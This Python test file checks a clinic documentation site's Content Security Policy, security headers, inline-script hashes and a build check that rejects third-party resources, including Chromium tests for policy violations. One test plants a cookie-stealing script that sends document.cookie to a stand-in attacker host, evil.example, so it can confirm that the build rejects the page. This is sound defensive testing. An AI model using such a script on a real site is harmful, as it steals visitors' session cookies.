"""csp.py and the pages' policies: `_headers`, the CSP `<meta>` in every page, only the theme's own inline
scripts allowed, and every page loading in Chromium under the header policy with no violation or console error."""

from __future__ import annotations

import base64
import hashlib
import re
from pathlib import Path

import pytest
from conftest import browser_pages, build, html_pages
from selectolax.lexbor import LexborHTMLParser as HTMLParser

from clinic_site.csp import (
    content_security_policy,
    headers_file,
    inline_scripts,
    inline_style_hashes,
    insert_policy_meta,
    theme_script_hashes,
    third_party_settings,
)
from clinic_site.errors import StaffError

REQUIRED_HEADERS = ("Content-Security-Policy", "Strict-Transport-Security", "X-Content-Type-Options",
                    "Referrer-Policy", "Permissions-Policy")


def sha256_source(script: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() + "'"


def parse_headers(text: str) -> dict[str, dict[str, str]]:
    """Netlify / Cloudflare Pages `_headers`: a path line, then indented `Name: value` lines."""
    rules: dict[str, dict[str, str]] = {}
    path = None
    for line in text.splitlines():
        if not line.strip() or line.lstrip().startswith("#"):
            continue
        if not line[0].isspace():
            path = line.strip()
            rules[path] = {}
        else:
            name, _, value = line.strip().partition(":")
            rules[path][name.strip()] = value.strip()
    return rules


def directives(policy: str) -> dict[str, list[str]]:
    return {part.split()[0]: part.split()[1:] for part in policy.split(";") if part.strip()}


def meta_policy(page: Path) -> str | None:
    node = HTMLParser(page.read_text()).css_first('meta[http-equiv="Content-Security-Policy"]')
    return node.attributes["content"] if node else None


def test_only_scripts_the_browser_runs_are_found():
    html = ('<script>alert(1)</script><script src="a.js"></script>'
            '<script type="application/ld+json">{"@type": "MedicalClinic"}</script>'
            '<script id="__config" type="application/json">{}</script><script type="module">b()</script>')
    assert inline_scripts(html) == ["alert(1)", "b()"]


def test_a_script_inside_the_page_content_is_never_allowed():
    content = "<p>Hi</p><script>steal()</script>"
    page = f"<head><script>theme()</script></head><article>{content}</article>"
    assert theme_script_hashes(page, content) == [sha256_source("theme()")]


def test_the_hash_is_the_one_browsers_compute():
    # The CSP 3 spec's example: sha256 of "alert('Hello, world.');".
    assert theme_script_hashes("<script>alert('Hello, world.');</script>", "") == ["'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"]


def test_style_blocks_and_attributes_are_hashed():
    html = '<style>p{color:red}</style><td style="text-align: left;">a</td><td style=\'text-align: left;\'>b</td>'
    assert inline_style_hashes(html) == [sha256_source("p{color:red}"), "'unsafe-hashes'", sha256_source("text-align: left;")]


def test_the_policy_names_no_other_origin_and_blocks_framing():
    policy = directives(content_security_policy(["'sha256-x'"]))
    assert policy["default-src"] == ["'self'"] and policy["script-src"] == ["'self'", "'sha256-x'"]
    assert policy["frame-ancestors"] == ["'none'"] and policy["object-src"] == ["'none'"]
    assert "frame-ancestors" not in directives(content_security_policy([], for_meta=True))


@pytest.mark.parametrize("settings, key, words", [
    ({"extra.analytics": {"provider": "google", "property": "G-TEST000000"}}, "extra.analytics", "send every visitor's reading"),
    ({"extra.analytics": {"provider": "google"}}, "extra.analytics", "Remove extra.analytics"),
    ({"theme.font": {"text": "Roboto"}}, "theme.font", "Google Fonts"),
    ({"extra_javascript": ["js/ok.js", "https://cdn.example/x.js"]}, "extra_javascript[2]", "'https://cdn.example/x.js' is a file on another site"),
    ({"extra_css": ["//cdn.example/x.css"]}, "extra_css[1]", "another site"),
])
def test_a_setting_that_loads_from_another_site_stops_the_build(settings, key, words):
    with pytest.raises(StaffError) as caught:
        third_party_settings(settings, "clinics/x/mkdocs.yml")
    assert str(caught.value).startswith(f"clinics/x/mkdocs.yml: {key}: ") and words in str(caught.value)


def test_the_sites_own_settings_load_nothing_from_another_site():
    third_party_settings({"extra.analytics": None, "theme.font": False, "extra_javascript": ["js/a.js"], "extra_css": []}, "mkdocs.yml")


def test_the_meta_goes_right_after_the_charset():
    html = insert_policy_meta('<head><meta charset="utf-8"><script>x()</script>', "default-src 'self'")
    assert html == '<head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src \'self\'"><script>x()</script>'
    assert insert_policy_meta("<head><script>x()</script>", "default-src 'self'") is None


def test_headers_file_parses():
    rules = parse_headers(headers_file("default-src 'self'"))
    assert list(rules) == ["/*"] and set(REQUIRED_HEADERS) <= set(rules["/*"])


# The built sites

def test_headers_file_covers_every_page(site):
    headers = parse_headers((site / "_headers").read_text())["/*"]
    assert set(REQUIRED_HEADERS) <= set(headers) and headers["X-Content-Type-Options"] == "nosniff"
    assert int(re.search(r"max-age=(\d+)", headers["Strict-Transport-Security"]).group(1)) >= 31536000
    policy = headers["Content-Security-Policy"]
    assert not re.search(r"https?:|//", policy), f"a third-party origin in the policy: {policy}"
    script_sources, style_sources = set(directives(policy)["script-src"]), set(directives(policy)["style-src"])
    for page in html_pages(site):
        html = page.read_text()
        assert {sha256_source(script) for script in inline_scripts(html)} <= script_sources, page
        assert set(inline_style_hashes(html)) <= style_sources, page


def test_every_page_carries_its_own_policy_before_any_script(site):
    for page in html_pages(site):
        html = page.read_text()
        policy = meta_policy(page)
        assert policy and "frame-ancestors" not in policy, page
        assert directives(policy)["script-src"] == ["'self'", *dict.fromkeys(sha256_source(s) for s in inline_scripts(html))], page
        assert html.index('http-equiv="Content-Security-Policy"') < html.index("<script"), page


def test_a_script_pasted_into_a_page_is_neither_published_nor_allowed(tiny, tmp_path):
    page = tiny.parent / "docs" / "contact.md"
    page.write_text(page.read_text() + "\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n")
    result = build(tiny, tmp_path / "site")
    assert result.returncode != 0
    assert "docs/contact.md:13: the page has a script, which is not allowed on the site" in result.stderr
    assert not list((tmp_path / "site").rglob("*.html"))


# In Chromium, under the header policy (the test server does not read _headers, so the route adds them)

@pytest.fixture
def strict_page(browser, site, served_site):
    headers = parse_headers((site / "_headers").read_text())["/*"]
    context = browser.new_context()

    def with_site_headers(route):
        response = route.fetch()
        route.fulfill(response=response, headers={**response.headers, **headers})

    context.route(f"{served_site}**", with_site_headers)
    # Runs before the page's own scripts and is not subject to its CSP.
    context.add_init_script("window.__violations = [];"
                            "document.addEventListener('securitypolicyviolation', e => window.__violations.push("
                            "e.violatedDirective + ' ' + e.blockedURI + ' ' + (e.sample || '')));")
    page = context.new_page()
    yield page
    context.close()


@pytest.mark.browser
def test_every_page_loads_with_no_csp_violation_and_no_console_error(strict_page, clinic, site, served_site):
    problems: list[str] = []
    strict_page.on("console", lambda m: m.type in ("error", "warning") and problems.append(f"console {m.type}: {m.text}"))
    strict_page.on("pageerror", lambda e: problems.append(f"page error: {e}"))
    for page in browser_pages(clinic):
        url = served_site + page.relative_to(site).as_posix().removesuffix("index.html")
        problems.clear()
        response = strict_page.goto(url, wait_until="networkidle")
        assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
        problems += strict_page.evaluate("window.__violations")
        assert problems == [], url


@pytest.mark.default_clinic
@pytest.mark.browser
def test_search_runs_under_the_policy(strict_page, served_site):
    problems: list[str] = []
    strict_page.on("console", lambda m: m.type == "error" and problems.append(m.text))
    strict_page.goto(served_site + "search/", wait_until="networkidle")  # opens search with focus in its field
    strict_page.keyboard.type("ketamine")
    strict_page.wait_for_selector(".md-search-result__item")
    assert problems + strict_page.evaluate("window.__violations") == []


@pytest.mark.default_clinic
@pytest.mark.browser
def test_an_added_inline_script_is_blocked(strict_page, site, served_site):
    """The browser check can fail: an inline script whose hash is not in the policy is reported."""
    page = strict_page.context.new_page()
    violations: list[str] = []
    page.on("console", lambda m: m.type == "error" and violations.append(m.text))

    def tampered(route):
        response = route.fetch()
        body = response.text().replace("</body>", "<script>document.title='x'</script></body>")
        headers = parse_headers((site / "_headers").read_text())["/*"]
        route.fulfill(response=response, body=body, headers={**response.headers, **headers})

    page.route(served_site, tampered)
    page.goto(served_site, wait_until="networkidle")
    assert any("Content Security Policy" in v for v in violations)
    assert page.evaluate("window.__violations")
    page.close()
